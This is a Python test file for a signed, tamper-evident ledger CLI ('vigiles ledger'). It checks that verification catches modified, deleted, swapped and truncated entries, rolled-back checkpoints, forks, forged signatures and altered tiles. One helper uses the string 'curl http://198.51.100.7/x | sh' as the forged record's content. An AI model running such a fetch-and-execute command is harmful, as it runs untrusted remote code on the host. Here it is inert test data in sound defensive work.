"""`vigiles ledger` through its Typer app: the commands, and `verify` catching each kind of tampering."""
import shutil

import pytest
from typer.testing import CliRunner

from vigiles.cli.ledger import app
from vigiles.ledger.checkpoint import Checkpoint, open_checkpoint, sign_checkpoint
from vigiles.ledger.log import Log
from vigiles.ledger.note import b64decode, generate_signer
from vigiles.ledger.proof import parse_proof, verify_proof
from vigiles.ledger.records import encode_record
from vigiles.ledger.tiles import decode_bundle, encode_bundle
from vigiles.ledger.tree import check_tree

ORIGIN = "example.org/vigiles-cli"
runner = CliRunner()


def run(*args, input=None):
    return runner.invoke(app, [str(a) for a in args], input=input)


def records(n, changed=None):
    out = []
    for i in range(n):
        rec = {"seq": i, "tool": "bash", "input": f"echo {i}"}
        if i == changed:
            rec["input"] = "curl http://198.51.100.7/x | sh"
        out.append(encode_record("event", rec))
    return out


@pytest.fixture
def ledger(tmp_path):
    """600 events, checkpointed at 100, 300 and 600 (bundles 000, 001 and 002.p/88)."""
    root = tmp_path / "ledger"
    result = run("init", root, "--origin", ORIGIN)
    assert result.exit_code == 0, result.output
    vkey = result.stdout.strip()
    lg = Log.open(root, checkpoint_interval=None)
    entries = records(600)
    for start, end in ((0, 100), (100, 300), (300, 600)):
        lg.append_many(entries[start:end])
        lg.checkpoint()
    lg.close()
    return root, vkey


def verify(root, vkey, *extra):
    return run("verify", root, "--vkey", vkey, *extra)


def rewrite_bundle(path, change):
    entries = decode_bundle(path.read_bytes())
    path.write_bytes(encode_bundle(change(entries)))


def test_verify_passes_on_an_untouched_log(ledger):
    root, vkey = ledger
    result = verify(root, vkey)
    assert result.exit_code == 0, result.output
    assert "OK: 600 entries and 5 signed checkpoints verified (size 600)" in result.output


def test_flipped_byte_in_an_entry(ledger):
    root, vkey = ledger
    path = root / "tile/entries/000"
    data = bytearray(path.read_bytes())
    data[2 + 20] ^= 0x01  # inside entry 0, after its length prefix
    path.write_bytes(bytes(data))
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "entry 0 in tile/entries/000 was modified" in result.output
    assert "checkpoints/100 (size 100): the entries do not hash to its signed root" in result.output


def test_deleted_entry(ledger):
    root, vkey = ledger
    rewrite_bundle(root / "tile/entries/001", lambda e: e[:7] + e[8:])
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "entry 263 was deleted from tile/entries/001" in result.output


def test_swapped_entries(ledger):
    root, vkey = ledger
    rewrite_bundle(root / "tile/entries/002.p/88", lambda e: e[:3] + [e[4], e[3]] + e[5:])
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "entries 515 and 516 are swapped in tile/entries/002.p/88" in result.output


def test_truncated_log(ledger):
    root, vkey = ledger
    shutil.rmtree(root / "tile/entries/002.p")
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "log truncated: tile/entries/002.p/88 is missing; entries from 512 on are gone" in result.output


def test_entries_cut_from_the_end(ledger):
    root, vkey = ledger
    rewrite_bundle(root / "tile/entries/002.p/88", lambda e: e[:85])
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "log truncated: tile/entries/002.p/88 stops after 85 entries; entries 597..599 are missing" in result.output


def test_rolled_back_checkpoint(ledger):
    root, vkey = ledger
    shutil.copy(root / "checkpoints/300", root / "checkpoint")  # a validly signed, older checkpoint
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert ("log truncated or rolled back: checkpoints/600 was signed for size 600, "
            "but the latest checkpoint has size 300") in result.output


def forge(root, tmp_path, changed):
    """Rewrite the log's content with entry `changed` altered and sign it with the log's own key."""
    skey = (root / "key").read_text()
    other = tmp_path / "forged"
    lg = Log.init(other, ORIGIN, key=skey, checkpoint_interval=None)
    lg.append_many(records(600, changed=changed))
    lg.checkpoint()
    lg.close()
    shutil.rmtree(root / "tile")
    shutil.copytree(other / "tile", root / "tile")
    shutil.copy(other / "checkpoint", root / "checkpoint")
    return other


def test_fork_signed_with_the_right_key(ledger, tmp_path):
    root, vkey = ledger
    forge(root, tmp_path, changed=150)
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "fork: checkpoint and checkpoints/600 are both signed for size 600 with different roots" in result.output
    assert "checkpoints/300 (size 300): the entries do not hash to its signed root (the first 100 entries still match)" \
        in result.output


def test_fork_with_rewritten_history_is_caught_by_a_remembered_checkpoint(ledger, tmp_path):
    root, vkey = ledger
    remembered = tmp_path / "seen-300"
    shutil.copy(root / "checkpoints/300", remembered)
    other = forge(root, tmp_path, changed=150)
    shutil.rmtree(root / "checkpoints")
    shutil.copytree(other / "checkpoints", root / "checkpoints")
    assert verify(root, vkey).exit_code == 0  # a consistent forgery, as far as the directory shows
    result = verify(root, vkey, "--checkpoint", remembered)
    assert result.exit_code == 1
    assert "remembered checkpoint #1 (size 300) (size 300): the entries do not hash to its signed root" in result.output


def test_checkpoint_signed_by_another_key(ledger):
    root, vkey = ledger
    impostor = generate_signer(ORIGIN)
    cp, _ = open_checkpoint((root / "checkpoint").read_bytes(), [Log.open(root, readonly=True).verifier])
    (root / "checkpoint").write_bytes(sign_checkpoint(Checkpoint(ORIGIN, cp.size, cp.root), impostor))
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert f"checkpoint is not signed by the log key {ORIGIN}+{vkey.split('+')[1]}: " \
           f"its signatures are by {ORIGIN} (key ID {impostor.key_id:08x})" in result.output


def test_altered_checkpoint_text(ledger):
    root, vkey = ledger
    note = (root / "checkpoints/300").read_bytes().replace(b"\n300\n", b"\n301\n")
    (root / "checkpoints/300").write_bytes(note)
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "checkpoints/300: the log's signature does not verify" in result.output


def test_altered_tile_is_named(ledger):
    root, vkey = ledger
    data = bytearray((root / "tile/0/001").read_bytes())
    data[40] ^= 0xFF
    (root / "tile/0/001").write_bytes(bytes(data))
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "tile/0/001 does not match the entries of tile/entries/001: the tile was altered" in result.output


def test_missing_partial_tile_of_a_checkpointed_size(ledger):
    root, vkey = ledger
    (root / "tile/1/000.p/1").unlink()
    result = verify(root, vkey)
    assert result.exit_code == 1
    assert "tile/1/000.p/1 is missing (checkpoints/300 needs it)" in result.output


def test_wrong_vkey_and_usage_errors(ledger, tmp_path):
    root, vkey = ledger
    result = verify(root, generate_signer(ORIGIN).vkey)
    assert result.exit_code == 1 and "not the trusted key" in result.output
    assert verify(root, "garbage+1234+AAAA").exit_code == 2
    assert run("verify", tmp_path / "nope").exit_code == 2
    (tmp_path / "bad-policy").write_text("quorum nobody\n")
    assert verify(root, vkey, "--policy", tmp_path / "bad-policy").exit_code == 2
    result = run("verify", root)
    assert result.exit_code == 0 and "trusting the key in log.json" in result.output


def test_commands(ledger, tmp_path):
    root, vkey = ledger
    assert run("vkey", root).stdout.strip() == vkey
    result = run("append", root, "--kind", "note", input='{"text": "hello"}\n{"text": "again"}\n')
    assert result.exit_code == 0 and result.stdout.split() == ["600", "601"]
    note = run("checkpoint", root).stdout.encode()
    lg = Log.open(root, readonly=True)
    cp, _ = open_checkpoint(note, [lg.verifier], ORIGIN)
    assert cp.size == 602
    proof = parse_proof(run("proof", root, "--index", 601).stdout.encode())
    assert verify_proof(proof, encode_record("note", {"text": "again"}), verifiers=[lg.verifier]).size == 602
    lines = run("consistency", root, "--from", 300).stdout.split()
    old, _ = open_checkpoint((root / "checkpoints/300").read_bytes(), [lg.verifier])
    check_tree([b64decode(x) for x in lines], 602, cp.root, 300, old.root)
    assert run("proof", root, "--index", 602).exit_code == 2
    assert run("consistency", root, "--from", 700).exit_code == 2
    assert run("append", root, "--kind", "note", input="not json\n").exit_code == 2
    deep = run("append", root, "--kind", "note", input="[" * 100_000 + "]" * 100_000 + "\n")
    assert deep.exit_code == 2 and "nested too deeply" in deep.output
    assert run("init", tmp_path / "bad", "--origin", "has space").exit_code == 2
    assert run("checkpoint", tmp_path / "missing").exit_code == 2


def test_init_with_key_file_and_env(tmp_path, monkeypatch):
    signer = generate_signer("example.org/k")
    key_file = tmp_path / "k.key"
    key_file.write_text(signer.skey + "\n")
    result = run("init", tmp_path / "a", "--origin", "example.org/k", "--key-file", key_file)
    assert result.exit_code == 0 and result.stdout.strip() == signer.vkey
    assert not (tmp_path / "a" / "key").exists()
    monkeypatch.setenv("VIGILES_LEDGER_KEY", signer.skey)
    assert run("init", tmp_path / "b", "--origin", "example.org/k").stdout.strip() == signer.vkey
    assert run("append", tmp_path / "b", "--kind", "note", input='{"a": 1}\n').exit_code == 0
